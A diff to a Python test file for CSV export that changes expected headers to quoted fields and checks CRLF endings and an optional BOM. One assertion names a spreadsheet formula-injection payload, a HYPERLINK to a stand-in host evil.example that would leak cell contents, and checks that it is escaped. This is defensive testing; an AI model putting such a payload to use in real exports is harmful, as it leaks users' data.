@@ -20,7 +20,8 @@ def read(path) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
 def test_csv_is_rfc_4180_utf8_without_bom_by_default(sample, export) -> None:
     path = export("claims.csv", table="claims")
     raw = path.read_bytes()
-    assert raw.startswith(b"claim id,group id,rating,outlet,")
+    assert raw.startswith(b'"claim id","group id","rating","outlet",')
+    assert b'\r\n1,1,"False","Daily Planet",' in raw  # numbers bare, text quoted (kept as text when read)
     assert raw.count(b"\r\n") == 10 and b"\n" not in raw.replace(b"\r\n", b"")  # CRLF after every record
     assert b'"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"' not in raw  # escaped, see below
     rows = read(path)
@@ -32,7 +33,7 @@ def test_csv_is_rfc_4180_utf8_without_bom_by_default(sample, export) -> None:
 
 def test_bom_is_added_on_request(sample, export) -> None:
     raw = export("verdicts.csv", bom=True).read_bytes()
-    assert raw.startswith(b"\xef\xbb\xbfgroup id,claim,claimant,rating,")
+    assert raw.startswith(b'\xef\xbb\xbf"group id","claim","claimant","rating",')
     with_bom = raw.decode("utf-8-sig")
     assert next(csv.DictReader(io.StringIO(with_bom, newline="")))["rating"] == "False"
 
